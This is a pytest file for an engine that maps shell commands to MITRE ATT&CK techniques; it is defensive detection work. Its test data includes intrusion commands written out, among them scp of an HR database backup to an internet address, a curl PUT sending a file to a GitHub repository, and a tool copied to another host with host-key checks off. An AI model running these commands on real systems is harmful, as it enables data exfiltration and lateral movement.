"""Commands operators type during an intrusion, in the forms their playbooks write them.

The ensemble on a command: the rule's technique comes first even where the
learned model, reading surface words, would guess another one.
"""

from __future__ import annotations

import pytest

from llmnav.mapping.base import MapInput
from llmnav.mapping.engine import MappingEngine


@pytest.fixture(scope="module")
def engine() -> MappingEngine:
    return MappingEngine.default()


def first(engine: MappingEngine, command: str) -> str:
    (result,) = engine.map([MapInput("1", command, "command")], tactics=False)
    return result.techniques[0].technique_id if result.techniques else ""


@pytest.mark.parametrize(
    ("command", "technique"),
    [
        # another host looked up by name or address: Remote System Discovery
        ("nbtstat -A 10.1.1.20", "T1018"),
        ("nslookup fs01.corp.example", "T1018"),
        ("Resolve-DnsName sql02.corp.example", "T1018"),
        # a tool copied to another host, with ssh options before the file
        (
            "scp -o StrictHostKeyChecking=no -o ConnectTimeout=3 agent.bin ops@10.0.0.9:/tmp/",
            "T1570",
        ),
        # an archive copied over ssh to an address on the internet: exfiltration
        ("scp -P 2222 /var/backups/hr.sql.gz u@185.220.101.7:/incoming/", "T1048.002"),
        # a tool copied inside the private network stays a lateral tool transfer
        ("scp -P 2222 /opt/tools/agent u@172.24.9.10:/tmp/", "T1570"),
        # an archive made with options before the create flag
        ("tar -P -zcf /tmp/s.tgz /home/bob/docs", "T1560.001"),
        # open windows listed by title
        (
            'Get-Process | Where-Object {$_.MainWindowTitle -ne ""} | Select MainWindowTitle',
            "T1010",
        ),
        # packets captured with the NetEventPacketCapture cmdlets
        (
            r"New-NetEventSession -Name cap -CaptureMode SaveToFile -LocalFilePath C:\t\c.etl",
            "T1040",
        ),
        # a file written to a code repository through its API
        (
            'curl -X PUT -H "Authorization: token $T" -d @body.json '
            "https://api.github.com/repos/me/notes/contents/out.txt",
            "T1567.001",
        ),
    ],
)
def test_operator_commands_are_read_by_what_they_do(
    engine: MappingEngine, command: str, technique: str
) -> None:
    assert first(engine, command) == technique


@pytest.mark.parametrize(
    ("command", "not_technique"),
    [
        ("nbtstat -n", "T1018"),
        ("scp admin@10.0.0.12:/var/log/app.log .", "T1570"),
        ("tar -x -C /opt/app -f release.tar", "T1560.001"),
        ("curl https://api.github.com/repos/psf/requests/releases/latest", "T1567.001"),
    ],
)
def test_look_alikes_are_not(engine: MappingEngine, command: str, not_technique: str) -> None:
    (result,) = engine.map([MapInput("1", command, "command")], tactics=False)
    assert not any(
        t.technique_id == not_technique and t.source == "rule" for t in result.techniques
    )
